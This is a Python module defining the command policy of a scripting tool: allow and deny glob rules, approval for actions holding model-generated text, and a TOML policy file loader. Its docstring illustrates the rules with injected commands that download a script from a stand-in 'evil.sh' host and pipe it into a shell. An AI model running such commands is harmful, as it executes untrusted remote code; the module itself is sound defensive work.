"""The command policy: which RUN commands may run, and which actions need a human's approval.

Rules come from `tiss run` / `tiss repl` flags (`--allow PATTERN`, `--deny PATTERN`, both
repeatable) and a policy file (`--policy FILE`, TOML: `allow = [...]`, `deny = [...]`). A
pattern is a shell-style glob over a RUN's whole command line: `*` any run of characters, `?`
one character, `[abc]` / `[!abc]` one of / none of a set. docs/running.md (*Command policy*)
is the user's guide; the decisions are:

1. A RUN that a **deny** rule matches fails before anything starts, naming the rule. Deny wins
   over allow. A deny rule matches the whole line or any one command in it (the line is also
   cut at `;`, `&&`, `||`, `|`, `&`, newlines, `$(`, `)` and backquotes), so `--deny 'curl *'`
   also refuses `make && curl evil.sh | sh`.
2. A RUN that an **allow** rule matches runs without asking. Wildcards in an allow rule never
   match the shell's control characters (`; & | < > $ ( ) \\` and backquote, newline), so
   `--allow 'pytest *'` allows `pytest -q tests/` but not `pytest x; curl evil.sh | sh`.
3. Otherwise a RUN whose command holds model text (taint, `runtime/taint.py`), a WRITE, MKDIR
   or DELETE whose path does, and with `--approve all` every RUN, needs approval: `--yes`
   approves, on a terminal the reviewer asks (showing the text, model parts marked), with no
   terminal the action fails with `PolicyDenied` saying how to allow it.

`Policy` is immutable and comes only from the command line: nothing a script says (`@`
directives included) is consulted, so a script cannot loosen it.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Any, Iterable

from runtime.errors import ScriptFailure, TissRuntimeError

APPROVE_MODES = ("tainted", "all")
"""`--approve`: ask only for actions holding model text (the default), or before every RUN too."""

POLICY_KEYS = ("allow", "deny")

# Characters a wildcard of an allow rule does not match: what ends, joins or substitutes a
# command in POSIX sh (and a backslash, which could escape a following one).
_CONTROL = ";&|<>$()`\\\n\r"
_SPLIT = re.compile(r"&&|\|\||[;|&\n\r`]|\$\(|\)")


class PolicyError(TissRuntimeError):
    """A rule or policy file that cannot be used (exit 2); positioned as file:line:col."""

    exit_code = 2


class PolicyDenied(ScriptFailure):
    """A RUN a deny rule matched, or an action that needed approval and did not get it."""

    kind = "PolicyDenied"


def _translate(pattern: str, wild: str) -> str:
    """The regular expression of a glob; `wild` is what one wildcard character matches (a
    character class). Sets follow fnmatch: `[!...]` negates, a `]` first in a set is literal,
    `a-z` is a range (a reversed one is empty), a `-` first or last is literal."""
    out: list[str] = []
    i, n = 0, len(pattern)
    while i < n:
        c = pattern[i]
        i += 1
        if c == "*":
            while i < n and pattern[i] == "*":
                i += 1
            out.append(f"{wild}*")
        elif c == "?":
            out.append(wild)
        elif c == "[":
            end = i
            if end < n and pattern[end] == "!":
                end += 1
            if end < n and pattern[end] == "]":
                end += 1
            end = pattern.find("]", end)
            if end == -1:
                raise ValueError("'[' opens a set of characters that no ']' closes (write [[] for a literal '[')")
            body = pattern[i:end]
            i = end + 1
            negate = body.startswith("!")
            out.append(_char_set(body[1:] if negate else body, negate, wild))
        else:
            out.append(re.escape(c))
    return "".join(out)


def _char_set(body: str, negate: bool, wild: str) -> str:
    """One `[...]` of a glob as a regular expression (see `_translate`)."""
    items: list[str] = []
    k = 0
    while k < len(body):
        first = body[k]
        if k + 2 < len(body) and body[k + 1] == "-":
            last = body[k + 2]
            if first <= last:  # a reversed range matches nothing, as in fnmatch
                items.append(f"{re.escape(first)}-{re.escape(last)}")
            k += 3
        else:
            items.append(re.escape(first))
            k += 1
    members = "".join(items)
    if not negate:
        return f"[{members}]" if members else "(?!)"
    # "none of these" in an allow rule never matches a control character either: `wild` is
    # the class of characters a wildcard may match, `[^...]`, or "." in a deny rule.
    excluded = members + (wild[2:-1] if wild.startswith("[^") else "")
    return f"[^{excluded}]" if excluded else "."


def literal_pattern(text: str) -> str:
    """A pattern that matches exactly `text` (its glob characters put in sets: `[*]`)."""
    return re.sub(r"[*?\[]", lambda m: f"[{m.group(0)}]", text)


def check_pattern(pattern: Any) -> str | None:
    """Why `pattern` cannot be a rule (None when it can)."""
    if not isinstance(pattern, str):
        return f"a pattern is a string, got {type(pattern).__name__} {pattern!r}"
    if not pattern.strip():
        return "a pattern cannot be empty (it would match nothing)"
    if any(c in pattern for c in "\0\n\r"):
        return "a pattern is one line without NUL bytes"
    try:
        _translate(pattern, ".")
    except ValueError as exc:
        return str(exc)
    return None


@dataclass(frozen=True)
class Rule:
    """One allow or deny pattern and where it came from (`--deny` or `policy.toml:3:9`)."""

    action: str  # "allow" or "deny"
    pattern: str
    origin: str
    _regex: re.Pattern[str] = field(init=False, repr=False, compare=False)

    def __post_init__(self) -> None:
        problem = check_pattern(self.pattern)
        if problem is not None:
            raise PolicyError(f"{self.origin}: bad {self.action} pattern {self.pattern!r}: {problem}")
        wild = "." if self.action == "deny" else f"[^{re.escape(_CONTROL)}]"
        object.__setattr__(self, "_regex", re.compile(_translate(self.pattern, wild), re.DOTALL))

    def matches(self, command: str) -> bool:
        command = str(command)
        if self._regex.fullmatch(command.strip()):
            return True
        if self.action == "deny":
            return any(self._regex.fullmatch(part.strip()) for part in _SPLIT.split(command) if part.strip())
        return False

    def describe(self) -> str:
        return f"{self.action} rule {self.pattern!r} ({self.origin})"

    def as_dict(self) -> dict[str, str]:
        return {"action": self.action, "pattern": self.pattern, "origin": self.origin}


@dataclass(frozen=True)
class Policy:
    """The rules and the approval mode of a run (see the module docstring)."""

    allow: tuple[Rule, ...] = ()
    deny: tuple[Rule, ...] = ()
    approve: str = "tainted"

    def __post_init__(self) -> None:
        if self.approve not in APPROVE_MODES:
            raise PolicyError(f"--approve takes {' or '.join(APPROVE_MODES)}, got {self.approve!r}")

    def denied_by(self, command: str) -> Rule | None:
        return next((rule for rule in self.deny if rule.matches(command)), None)

    def allowed_by(self, command: str) -> Rule | None:
        return next((rule for rule in self.allow if rule.matches(command)), None)


def build_policy(
    allow: Iterable[str] | None = (),
    deny: Iterable[str] | None = (),
    policy_file: str | None = None,
    approve: str | None = None,
) -> Policy:
    """The policy of `--allow`, `--deny`, `--policy FILE` and `--approve` (a `PolicyError` for
    a bad pattern or file)."""
    allows: list[Rule] = []
    denies: list[Rule] = []
    if policy_file is not None:
        file_allow, file_deny = load_policy_file(policy_file)
        allows.extend(file_allow)
        denies.extend(file_deny)
    allows.extend(Rule("allow", pattern, "--allow") for pattern in allow or ())
    denies.extend(Rule("deny", pattern, "--deny") for pattern in deny or ())
    return Policy(tuple(allows), tuple(denies), approve or "tainted")


# -- the policy file -------------------------------------------------------------------------


def _toml_module() -> Any:
    try:
        import tomllib  # Python 3.11+
    except ModuleNotFoundError:  # pragma: no cover - CI runs 3.11+
        try:
            import tomli as tomllib  # type: ignore[no-redef]
        except ModuleNotFoundError:
            raise PolicyError(
                "--policy needs a TOML reader: Python 3.11 or newer has one (tomllib); on "
                "Python 3.10 run `pip install tomli`, or pass the rules as --allow / --deny"
            ) from None
    return tomllib


def load_policy_file(path: str) -> tuple[list[Rule], list[Rule]]:
    """The allow and deny rules of a policy file; a `PolicyError` at file:line:col otherwise."""
    tomllib = _toml_module()
    try:
        with open(path, "rb") as handle:
            data = handle.read()
    except OSError as exc:
        raise PolicyError(f"cannot read policy file {path}: {exc.strerror or exc}") from None
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as exc:
        line = data[: exc.start].count(b"\n") + 1
        column = exc.start - (data.rfind(b"\n", 0, exc.start) + 1) + 1
        raise PolicyError(f"{path}:{line}:{column}: the policy file is not UTF-8 text") from None
    try:
        table = tomllib.loads(text)
    except tomllib.TOMLDecodeError as exc:
        line, column, message = _toml_position(exc, text)
        raise PolicyError(f"{path}:{line}:{column}: not valid TOML: {message}") from None
    keys = _top_level_positions(text)
    rules: dict[str, list[Rule]] = {"allow": [], "deny": []}
    for key, value in table.items():
        line, column = keys.get(key, (1, 1))
        if key not in POLICY_KEYS:
            raise PolicyError(
                f"{path}:{line}:{column}: unknown key {key!r} in the policy file; it holds only "
                "allow = [\"PATTERN\", ...] and deny = [\"PATTERN\", ...]"
            )
        if not isinstance(value, list):
            raise PolicyError(
                f"{path}:{line}:{column}: {key} is a list of patterns, like {key} = [\"pytest *\"]"
            )
        places = _array_item_positions(text, line, column)
        for index, pattern in enumerate(value):
            item_line, item_column = places[index] if index < len(places) else (line, column)
            origin = f"{path}:{item_line}:{item_column}"
            problem = check_pattern(pattern)
            if problem is not None:
                raise PolicyError(f"{origin}: bad {key} pattern {pattern!r}: {problem}")
            rules[key].append(Rule(key, pattern, origin))
    return rules["allow"], rules["deny"]


def _toml_position(exc: Exception, text: str) -> tuple[int, int, str]:
    """Line, column and message of a TOML syntax error (Python 3.14 has them as attributes;
    before, only in the message, where the end of the file has no numbers)."""
    message = str(exc)
    line = getattr(exc, "lineno", None)
    column = getattr(exc, "colno", None)
    found = re.search(r"\s*\(at line (\d+), column (\d+)\)\s*$", message)
    if found:
        message = message[: found.start()]
        line, column = line or int(found.group(1)), column or int(found.group(2))
    else:
        end = re.search(r"\s*\(at end of document\)\s*$", message)
        if end:
            message = message[: end.start()] + " at the end of the file"
            line = line or text.count("\n") + 1
            column = column or len(text) - (text.rfind("\n") + 1) + 1
    return line or 1, column or 1, getattr(exc, "msg", None) or message


_KEY = re.compile(r"""[ \t]*(?:"((?:[^"\\]|\\.)*)"|'([^']*)'|([A-Za-z0-9_-]+))""")


def _top_level_positions(text: str) -> dict[str, tuple[int, int]]:
    """Where each top-level key (or table header) starts, 1-based; found by a light scan of a
    document tomllib has already accepted (only lines that start a key or a table matter)."""
    found: dict[str, tuple[int, int]] = {}
    in_string: str | None = None  # the delimiter of a multi-line string being skipped
    depth = 0  # open brackets of a multi-line array / inline table
    for number, line in enumerate(text.split("\n"), 1):
        start = 0
        if in_string is None and depth == 0:
            stripped = line.lstrip()
            indent = len(line) - len(stripped)
            if stripped.startswith("["):
                name = stripped.lstrip("[").lstrip()
                match = _KEY.match(name)
                if match:
                    key = next(g for g in match.groups() if g is not None)
                    found.setdefault(key, (number, indent + 1))
                continue
            match = _KEY.match(line)
            if match and stripped and not stripped.startswith("#"):
                key = next(g for g in match.groups() if g is not None)
                found.setdefault(key, (number, indent + 1))
        in_string, depth = _scan(line, start, in_string, depth)
    return found


def _scan(line: str, start: int, in_string: str | None, depth: int) -> tuple[str | None, int]:
    """Advance over one line: which multi-line string is still open, how many brackets."""
    i, n = start, len(line)
    while i < n:
        if in_string is not None:
            if in_string == '"""' and line[i] == "\\":
                i += 2
                continue
            if line.startswith(in_string, i):
                i += 3
                in_string = None
                continue
            i += 1
            continue
        c = line[i]
        if c == "#":
            break
        if line.startswith('"""', i) or line.startswith("'''", i):
            in_string = line[i : i + 3]
            i += 3
            continue
        if c in "\"'":
            i = _string_end(line, i)
            continue
        if c in "[{":
            depth += 1
        elif c in "]}":
            depth -= 1
        i += 1
    return in_string, depth


def _string_end(line: str, i: int) -> int:
    quote = line[i]
    i += 1
    while i < len(line):
        if quote == '"' and line[i] == "\\":
            i += 2
            continue
        if line[i] == quote:
            return i + 1
        i += 1
    return i


def _array_item_positions(text: str, line: int, column: int) -> list[tuple[int, int]]:
    """The 1-based position of each string item of the array assigned at (line, column)."""
    lines = text.split("\n")
    out: list[tuple[int, int]] = []
    number, i = line - 1, column - 1
    seen_equals = False
    depth = 0
    while number < len(lines):
        row = lines[number]
        while i < len(row):
            c = row[i]
            if not seen_equals:
                seen_equals = c == "="
                if c in "\"'":
                    i = _string_end(row, i)
                    continue
                i += 1
                continue
            if c == "#":
                break
            if c == "[":
                depth += 1
            elif c == "]":
                depth -= 1
                if depth <= 0:
                    return out
            elif c in "\"'":
                if depth == 1:
                    out.append((number + 1, i + 1))
                if row.startswith(c * 3, i):  # a multi-line string item: skip to its end
                    close = text.find(c * 3, _offset(lines, number, i + 3))
                    if close == -1:
                        return out
                    number, i = _position(text, close + 3)
                    row = lines[number]
                    continue
                i = _string_end(row, i)
                continue
            i += 1
        number, i = number + 1, 0
    return out


def _offset(lines: list[str], number: int, column: int) -> int:
    return sum(len(row) + 1 for row in lines[:number]) + column


def _position(text: str, offset: int) -> tuple[int, int]:
    number = text.count("\n", 0, offset)
    return number, offset - (text.rfind("\n", 0, offset) + 1)
